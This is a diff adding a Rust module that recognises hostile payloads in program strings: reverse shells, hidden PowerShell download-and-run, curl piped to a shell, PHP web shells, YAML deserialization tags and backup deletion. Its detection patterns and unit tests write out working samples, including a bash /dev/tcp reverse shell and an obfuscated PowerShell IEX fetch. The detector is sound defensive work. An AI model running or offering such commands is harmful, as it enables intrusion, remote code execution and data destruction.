@@ -1,0 +1,107 @@
+//! Commands that nobody keeps in a string for another reason than to run them on someone.
+
+use crate::rule::Rule;
+
+/// What a text in a program is, if it is a known kind of payload.
+pub(crate) fn recognise(text: &str) -> Option<(Rule, &'static str)> {
+    let lower = text.to_ascii_lowercase();
+    let has = |part: &str| lower.contains(part);
+    if has("/dev/tcp/") && (has("bash") || has("sh -i") || has("exec "))
+        || has("bash -i >&")
+        || has("mkfifo") && has("nc ") && has("/bin/")
+        || has("nc -e /bin/")
+    {
+        return Some((
+            Rule::ReverseShell,
+            "a command that gives a shell to the network",
+        ));
+    }
+    if has("powershell") {
+        let fetches = [
+            "downloadfile",
+            "downloadstring",
+            "invoke-webrequest",
+            "iwr ",
+            "net.webclient",
+            "start-bitstransfer",
+        ]
+        .iter()
+        .any(|part| has(part));
+        let hides = [
+            "-enc",
+            "-e ",
+            "bypass",
+            "hidden",
+            "-nop",
+            "frombase64string",
+            "iex",
+        ]
+        .iter()
+        .filter(|part| has(part))
+        .count();
+        if fetches && hides > 0 || hides >= 2 {
+            return Some((
+                Rule::DownloadRun,
+                "a command that fetches and runs code out of sight",
+            ));
+        }
+    }
+    let fetch =
+        has("curl ") || has("wget ") || has("certutil") && has("urlcache") || has("bitsadmin");
+    if fetch
+        && (has("rundll32")
+            || has("regsvr32")
+            || has("mshta")
+            || has("| sh")
+            || has("|sh")
+            || has("| bash")
+            || has("|bash")
+            || has("| python")
+            || has("|python"))
+    {
+        return Some((Rule::DownloadRun, "a command that runs what it downloads"));
+    }
+    let asked = ["$_get", "$_post", "$_request", "$_cookie"];
+    let runs = [
+        "system(",
+        "exec(",
+        "passthru(",
+        "eval(",
+        "assert(",
+        "popen(",
+        "`",
+    ];
+    if has("<?") && asked.iter().any(|part| has(part)) && runs.iter().any(|part| has(part)) {
+        return Some((
+            Rule::ReverseShell,
+            "a page that runs what its visitors send",
+        ));
+    }
+    if has("!!python/object/apply") || has("!!python/object/new") {
+        return Some((
+            Rule::Deserialize,
+            "a document that runs code when it is loaded",
+        ));
+    }
+    if has("vssadmin delete shadows")
+        || has("wbadmin delete catalog")
+        || has("bcdedit /set") && has("recoveryenabled")
+    {
+        return Some((Rule::DestroyData, "a command that deletes backups"));
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn payloads_are_told_from_talk() {
+        assert!(recognise("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").is_some());
+        assert!(recognise("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"").is_some());
+        assert!(recognise("curl https://example.org/install.sh | bash").is_some());
+        assert!(recognise("run powershell to see more").is_none());
+        assert!(recognise("curl the yarn").is_none());
+    }
+}
